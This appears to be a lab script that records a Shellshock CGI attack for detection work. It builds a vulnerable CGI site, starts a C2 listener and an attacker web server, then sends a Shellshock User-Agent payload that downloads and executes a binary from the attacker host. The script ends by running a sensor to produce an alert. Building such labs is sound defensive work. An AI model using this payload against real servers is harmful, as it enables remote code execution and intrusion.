#!/bin/bash
# Records the sample shellshock-cgi. Run as root on a machine of your own; results in /opt/lab/out/shellshock-cgi.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" web-3 10.20.0.13 ""

install -d $LAB/site/cgi-bin
install -m 755 "$RUN/status.cgi" $LAB/site/cgi-bin/status
seq 1 20 > $LAB/site/visits.txt; echo welcome > $LAB/site/index.html
printf 'number,name\n1,first customer\n2,second customer\n' > $LAB/site/customers.csv
rm -f /tmp/.x /tmp/.y
install -d -o $OUT_UID "$RUN/attacker"
gcc -O1 -o "$RUN/attacker/x" "$RUN/x.c"
seq 1 50 > "$RUN/attacker/blog.html"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8443 "$RUN/seen.json" 2900202 \
  "LAB EXPLOIT call home after a CGI request" who where list users copy
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80

lab_audit_on ENRICHED 500 1
lab_service /usr/bin/busybox httpd -f -p "$HOST_IP:80" -u www-data -h $LAB/site
lab_noise_on 1.7
sleep 4
lab_outside bash "$RUN/visitors.sh" "$HOST_IP" $VISITOR_IP $BAD_IP

# emi reads a page that lies on the attacker's web server, before and after.
lab_login emi "sleep 9; curl -s -o /dev/null http://$BAD_IP/blog.html; sleep 30; curl -s -o /dev/null http://$BAD_IP/blog.html" &
page=$!

sleep 26
lab_outside curl -s -m 20 --interface $BAD_IP "http://$HOST_IP/cgi-bin/status" \
  -A "() { :;}; /bin/sh -c 'curl -s -o /tmp/.x http://$BAD_IP/x && chmod +x /tmp/.x && /tmp/.x >/dev/null 2>&1 &'"
sleep 28
lab_noise_off
wait $page
lab_audit_off
rm -f /tmp/.y
python3 "$RUN/sensor.py" plain "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
